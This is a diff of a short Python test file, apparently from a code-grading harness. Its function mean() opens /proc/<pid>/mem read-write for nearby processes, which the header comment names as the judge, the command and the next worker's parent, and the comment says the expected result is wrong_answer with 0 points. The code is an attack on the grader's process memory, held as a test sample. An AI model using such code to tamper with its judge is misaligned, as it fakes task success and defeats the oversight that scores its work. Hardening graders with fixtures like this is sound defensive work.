@@ -1,4 +1,4 @@
-# Writes what it likes into the memory of every process of the same user: the judge's, the command's, what forks the next worker.
+# Writes what it likes into the memory of other processes of the same user: the judge, the command, what forks the next worker.
 # everywhere: wrong_answer, 0 points
 import ctypes
 import os
@@ -9,7 +9,7 @@ LIBRARY = ctypes.CDLL(None)
 
 def mean(x):
     own = os.getpid()
-    for pid in (os.getppid(), *range(1, 1 << 16)):
+    for pid in (os.getppid(), *range(max(1, own - 500), own + 20)):
         if pid == own:
             continue
         found = LIBRARY.open(f"/proc/{pid}/mem".encode(), os.O_RDWR)
